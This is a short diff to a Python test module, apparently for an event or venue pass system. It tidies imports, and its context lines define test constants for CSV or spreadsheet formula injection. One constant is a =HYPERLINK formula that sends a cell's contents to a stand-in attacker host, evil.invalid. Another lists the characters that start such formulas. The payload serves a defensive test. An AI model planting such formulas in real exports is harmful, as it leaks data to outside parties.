@@ -16,10 +16,9 @@ from expo.models import Role
 from tests.support import ROOT
 from tests.support.factories import bearer, make_user_token, make_venue
 from tests.support.gate import gate_over_http, nonce, now_iso, pass_over_http
-from tests.support.passes import Client, settings
+from tests.support.passes import Client
 
 pytestmark = pytest.mark.anyio
-__all__ = ["settings"]
 
 HYPERLINK = '=HYPERLINK("http://evil.invalid/?x="&A1,"klik")'
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
